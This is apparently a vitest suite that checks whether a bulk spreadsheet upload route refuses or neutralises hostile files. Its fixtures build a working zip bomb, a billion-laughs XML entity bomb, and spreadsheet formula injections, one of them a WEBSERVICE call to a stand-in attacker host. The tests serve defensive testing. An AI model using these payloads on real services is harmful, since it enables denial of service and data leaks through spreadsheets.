import { randomUUID } from 'node:crypto';
import { eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ZIP_MESSAGES } from '../../server/bulk/zipDirectory';
import { buildings, floors, workers, zones } from '../../server/db/schema';
import { BULK_MAX_ROWS, BULK_MESSAGES, bulkKind, invalidCell } from '../../src/domain/bulkKinds';
import { MAX_UPLOAD_BYTES, UPLOAD_FILE_MESSAGES } from '../../src/domain/uploadFile';
import { bulkUpload, commitDraft, draftRows, kindWorkbook, multipartFile } from './helpers/bulkUploadFixture';
import { startDemoSiteSuite } from './helpers/demoSiteSuite';
import type { TestApp } from './helpers/testApp';
import { inlineStringWorkbook, WORKER_HEADER } from './helpers/workerWorkbooks';
import { deflateStreaming, readZip, repeated, replaceEntries, writeZip } from './helpers/zipWriter';

const MIB = 1024 * 1024;
const WORKERS = bulkKind('workers');
const MAIN_NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const SHEET_HEAD = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="${MAIN_NS}"><sheetData>`;
const SHEET_TAIL = '</sheetData></worksheet>';
const ENTITY_MESSAGE = 'The file contains XML entity declarations, which are not accepted';
const ONE_FILE_MESSAGE = 'Upload one file at a time';

/** The peak growth of this process's resident memory (the server's: app.inject is in-process). */
async function rssGrowthMb<T>(work: () => Promise<T>): Promise<{ result: T; growthMb: number }> {
  const before = process.memoryUsage().rss;
  let peak = before;
  const sample = () => {
    peak = Math.max(peak, process.memoryUsage().rss);
  };
  const timer = setInterval(sample, 5);
  try {
    const result = await work();
    return { result, growthMb: (peak - before) / MIB };
  } finally {
    clearInterval(timer);
    sample();
  }
}

/** An .xlsx written by exceljs from raw cell values (formulas included). */
async function workbookOf(rows: readonly ExcelJS.CellValue[][]): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Workers');
  for (const row of rows) sheet.addRow(row);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

async function readWorkbook(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  return workbook;
}

/** The stored text of a downloaded cell, and whether a spreadsheet would run it as a formula. */
function cellSeen(cell: ExcelJS.Cell) {
  return {
    value: cell.value,
    isFormula: cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined,
  };
}

const SPREADSHEET_INJECTIONS = ['=1+2', '+SUM(A1:A9)', '-2+3', '@SUM(1,2)'] as const;

describe('hostile and odd upload files, through the upload route', () => {
  let t: TestApp;
  let siteId: number;
  let admin: string;
  let zone = '';

  beforeAll(async () => {
    let tokens: Record<string, string>;
    ({ t, siteId, tokens } = await startDemoSiteSuite(['group-of-sites-admin']));
    admin = tokens['group-of-sites-admin'];
    const [first] = await t.db
      .select({ building: buildings.name, floor: floors.name, zone: zones.name })
      .from(zones)
      .innerJoin(floors, eq(floors.id, zones.floorId))
      .innerJoin(buildings, eq(buildings.id, floors.buildingId))
      .where(eq(buildings.siteId, siteId))
      .orderBy(zones.id)
      .limit(1);
    zone = `${first.building} / ${first.floor} / ${first.zone}`;
  });
  afterAll(() => t.close());

  const tableCounts = async () => {
    const result = (await t.db.execute(
      sql`select (select count(*) from bulk_uploads)::int as uploads,
                 (select count(*) from bulk_upload_rows)::int as upload_rows,
                 (select count(*) from workers)::int as workers`,
    )) as unknown as { rows: { uploads: number; upload_rows: number; workers: number }[] };
    return result.rows[0];
  };

  /**
   * Sends a request to the workers upload; expects the status and message, the three tables as
   * they were, and the server's memory grown by less than `maxGrowthMb` while it answered.
   */
  async function expectRefused(
    send: () => Promise<{ statusCode: number; json: { message?: string } }>,
    expected: { status: number; message: unknown; maxGrowthMb?: number },
  ) {
    const before = await tableCounts();
    const { result, growthMb } = await rssGrowthMb(send);
    expect({ status: result.statusCode, message: result.json.message }).toEqual({
      status: expected.status,
      message: expected.message,
    });
    expect(await tableCounts()).toEqual(before);
    expect(growthMb).toBeLessThan(expected.maxGrowthMb ?? 64);
    return growthMb;
  }

  const uploadUrl = () => `/bulk/api/sites/${siteId}/${WORKERS.bulkPath}/${randomUUID()}`;
  const sendFile = (bytes: Buffer, fileName: string) => () =>
    bulkUpload(t, admin, siteId, WORKERS, bytes, { fileName });

  it('refuses a file of 10 MB and one byte with 413', async () => {
    const bytes = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(MAX_UPLOAD_BYTES - 3)]);
    expect(bytes.length).toBe(MAX_UPLOAD_BYTES + 1);
    await expectRefused(sendFile(bytes, 'workers.xlsx'), {
      status: 413,
      message: UPLOAD_FILE_MESSAGES.tooLarge,
    });
  });

  it('refuses a renamed .csv, an .xls, and CSV text or an .xls named .xlsx with 415', async () => {
    const csv = Buffer.from('Name,Worker tag id\nAmina Yusuf,W-0001\n');
    const xls = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4096)]);
    const wrongType = { status: 415, message: UPLOAD_FILE_MESSAGES.wrongType };
    await expectRefused(sendFile(csv, 'workers.csv'), wrongType);
    await expectRefused(sendFile(xls, 'workers.xls'), wrongType);
    await expectRefused(sendFile(csv, 'workers.xlsx'), wrongType);
    await expectRefused(sendFile(xls, 'workers.xlsx'), wrongType);
  });

  it('refuses a body that is not multipart with 415', async () => {
    await expectRefused(
      () =>
        t.call(admin, {
          method: 'POST',
          url: uploadUrl(),
          payload: { file: 'workers.xlsx', rows: [['Amina Yusuf']] },
        }),
      { status: 415, message: UPLOAD_FILE_MESSAGES.wrongType },
    );
  });

  it('refuses two files in one request with 422, the first one not stored', async () => {
    const good = await kindWorkbook(WORKERS, [{ name: 'Two Files One', worker_tag_id: 'TWO-1' }]);
    const first = multipartFile(good, 'first.xlsx');
    const boundary = first.headers['content-type'].split('boundary=')[1];
    const second = Buffer.from(
      `\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="second.xlsx"\r\n` +
        `Content-Type: application/octet-stream\r\n\r\n`,
    );
    const closing = `\r\n--${boundary}--\r\n`;
    // The first part's closing boundary is replaced by a second file part.
    const payload = Buffer.concat([
      first.payload.subarray(0, first.payload.length - closing.length),
      second,
      good,
      Buffer.from(closing),
    ]);
    await expectRefused(
      () => t.call(admin, { method: 'POST', url: uploadUrl(), payload, headers: first.headers }),
      { status: 422, message: ONE_FILE_MESSAGE },
    );
  });

  it('refuses a zip bomb with 422, stated or understated, with memory flat', async () => {
    // About 128 MB of sheet XML, deflated as it is generated to well under a megabyte.
    const inflated = await deflateStreaming(
      repeated(SHEET_HEAD, '<row r="1" spans="1:5"/>', 128 * MIB, SHEET_TAIL),
    );
    expect(inflated.bytes.length).toBeLessThan(MIB);
    const genuine = await kindWorkbook(WORKERS, [{ name: 'Bomb Carrier', worker_tag_id: 'BOMB-1' }]);
    const withSheet = (declaredSize?: number) =>
      writeZip(
        readZip(genuine).map((entry) =>
          entry.name === 'xl/worksheets/sheet1.xml'
            ? { name: entry.name, deflated: inflated, declaredSize }
            : { name: entry.name, data: entry.data },
        ),
      );
    const stated = await expectRefused(sendFile(withSheet(), 'workers.xlsx'), {
      status: 422,
      message: ZIP_MESSAGES.entryTooLarge(100 * MIB),
    });
    const understated = await expectRefused(sendFile(withSheet(64 * 1024), 'workers.xlsx'), {
      status: 422,
      message: ZIP_MESSAGES.sizeLie,
    });
    console.info(
      `zip bombs: rss grew ${stated.toFixed(1)} MB (stated), ${understated.toFixed(1)} MB (understated)`,
    );
  });

  it('refuses an XML bomb (billion laughs) with 422', async () => {
    const laughs = Array.from(
      { length: 9 },
      (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level};`.repeat(10)}">`,
    ).join('');
    const sheet =
      `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${laughs}]>` +
      `<worksheet xmlns="${MAIN_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row>` +
      '<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>';
    const genuine = await kindWorkbook(WORKERS, [{ name: 'Laughing Person', worker_tag_id: 'LOL-1' }]);
    const bytes = replaceEntries(genuine, { 'xl/worksheets/sheet1.xml': sheet });
    await expectRefused(sendFile(bytes, 'workers.xlsx'), { status: 422, message: ENTITY_MESSAGE });
  });

  it("refuses a file whose header is not the template's with 422", async () => {
    const bytes = await workbookOf([
      ['Full name', 'Badge'],
      ['Amina Yusuf', 'HDR-1'],
    ]);
    await expectRefused(sendFile(bytes, 'workers.xlsx'), {
      status: 422,
      // The header's message, with or without the missing columns named after it.
      message: expect.stringMatching(new RegExp(`^${BULK_MESSAGES.missingHeader}`)),
    });
  });

  it('refuses 100,001 rows with 422 and stores nothing, with memory bounded', {
    timeout: 60_000,
  }, async () => {
    function* rows() {
      yield WORKER_HEADER;
      for (let index = 1; index <= BULK_MAX_ROWS + 1; index++) yield [`Row Person ${index}`, `ROW-${index}`];
    }
    const bytes = await inlineStringWorkbook(rows());
    expect(bytes.length).toBeLessThan(MAX_UPLOAD_BYTES);
    const growth = await expectRefused(sendFile(bytes, 'workers.xlsx'), {
      status: 422,
      message: BULK_MESSAGES.tooManyRows,
      maxGrowthMb: 250,
    });
    console.info(`100,001 rows (${(bytes.length / MIB).toFixed(1)} MB): rss grew ${growth.toFixed(1)} MB`);
  });

  it('stores a formula cell as its cached value, never evaluated, and commits it', async () => {
    const bytes = await workbookOf([
      [...WORKER_HEADER],
      [{ formula: 'CONCAT("Formula"," Person")', result: 'Formula Person' }, 'FORMULA-1'],
      // The cached value is itself formula text: stored as that text, not as 3.
      [{ formula: 'CONCAT("=1","+2")', result: '=1+2' }, 'FORMULA-2'],
      [{ formula: 'WEBSERVICE("http://attacker.example/")', result: 'Cached Name' }, 'FORMULA-3'],
    ]);
    const upload = await bulkUpload(t, admin, siteId, WORKERS, bytes);
    expect(upload.statusCode, upload.body).toBe(200);
    expect(upload.json.data).toMatchObject({ status: 'draft', row_count: 3, error_row_count: 0 });
    const rows = await draftRows(t, admin, siteId, upload.uploadId);
    expect(rows.map((row) => row.cells.name)).toEqual(['Formula Person', '=1+2', 'Cached Name']);
    expect((await commitDraft(t, admin, siteId, upload.uploadId)).statusCode).toBe(200);
    const stored = await t.db
      .select({ name: workers.name })
      .from(workers)
      .where(sql`${workers.workerTagId} like 'FORMULA-%'`)
      .orderBy(workers.workerTagId);
    expect(stored.map((row) => row.name)).toEqual(['Formula Person', '=1+2', 'Cached Name']);
  });

  it('takes a NUL in a cell (`_x0000_`) or in the file name without a 500: the cell is invalid, nothing commits', async () => {
    const bytes = await workbookOf([
      [...WORKER_HEADER],
      ['Nul_x0000_Person', 'NUL-1'],
      ['Plain Person', 'NUL-2'],
    ]);
    const upload = await bulkUpload(t, admin, siteId, WORKERS, bytes, { fileName: 'nul\u0000name.xlsx' });
    expect(upload.statusCode, upload.body).toBe(200);
    expect(upload.json.data).toMatchObject({ file_name: 'nulname.xlsx', row_count: 2, error_row_count: 1 });
    const rows = await draftRows(t, admin, siteId, upload.uploadId);
    expect(rows[0].errors).toEqual([{ column: 'name', message: invalidCell('Name') }]);
    expect((await commitDraft(t, admin, siteId, upload.uploadId)).statusCode).toBe(422);
    const stored = await t.db
      .select({ id: workers.id })
      .from(workers)
      .where(sql`${workers.workerTagId} like 'NUL-%'`);
    expect(stored).toEqual([]);
  });

  it('neutralises = + - @ text in the rejected-rows download', async () => {
    const bytes = await kindWorkbook(
      WORKERS,
      SPREADSHEET_INJECTIONS.map((name, index) => ({
        name,
        worker_tag_id: `INJECT-${index}`,
        contact_number: '12ab',
      })),
    );
    const upload = await bulkUpload(t, admin, siteId, WORKERS, bytes);
    expect(upload.json.data).toMatchObject({ status: 'draft', row_count: 4, error_row_count: 4 });
    expect((await draftRows(t, admin, siteId, upload.uploadId)).map((row) => row.cells.name)).toEqual([
      ...SPREADSHEET_INJECTIONS,
    ]);

    const download = await t.call(admin, {
      method: 'GET',
      url: `/bulk/api/sites/${siteId}/uploads/${upload.uploadId}/rejected`,
    });
    expect(download.statusCode).toBe(200);
    const sheet = (await readWorkbook(download.rawPayload)).worksheets[0];
    expect(sheet.getRow(1).getCell(1).value).toBe('Name');
    const names = SPREADSHEET_INJECTIONS.map((_, index) => cellSeen(sheet.getRow(index + 2).getCell(1)));
    expect(names).toEqual(SPREADSHEET_INJECTIONS.map((name) => ({ value: `'${name}`, isFormula: false })));
  });

  it('neutralises = + - @ text of the site’s lists in the template', async () => {
    const groups = SPREADSHEET_INJECTIONS.map((text) => `${text} group`);
    const locationGroups = bulkKind('locationGroups');
    const made = await bulkUpload(
      t,
      admin,
      siteId,
      locationGroups,
      await kindWorkbook(
        locationGroups,
        groups.map((name) => ({ location_group: name, zone })),
      ),
      { mode: 'commit' },
    );
    expect(made.statusCode, made.body).toBe(200);

    const assignments = bulkKind('workerLocationAssignments');
    const template = await t.call(admin, {
      method: 'GET',
      url: `/bulk/api/sites/${siteId}/${assignments.bulkPath}/template`,
    });
    expect(template.statusCode).toBe(200);
    const lists = (await readWorkbook(template.rawPayload)).getWorksheet('Lists');
    if (!lists) throw new Error('The template has no Lists sheet');
    const seen = new Map<string, ReturnType<typeof cellSeen>>();
    lists.eachRow((row) => {
      row.eachCell((cell) => {
        if (typeof cell.value === 'string') seen.set(cell.value.replace(/^'/, ''), cellSeen(cell));
      });
    });
    for (const name of groups) expect(seen.get(name)).toEqual({ value: `'${name}`, isFormula: false });
  });
});
